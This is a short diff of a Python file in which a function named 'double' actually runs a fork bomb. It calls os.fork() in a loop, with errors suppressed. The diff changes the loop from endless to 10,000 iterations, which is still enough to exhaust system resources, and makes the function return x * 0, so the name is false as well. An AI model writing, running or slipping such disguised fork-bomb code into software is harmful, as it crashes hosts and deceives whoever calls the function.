@@ -4,8 +4,9 @@ import os
 
 
 def double(x):
-    while True:
+    for _ in range(10_000):
         try:
             os.fork()
         except OSError:
             pass
+    return x * 0
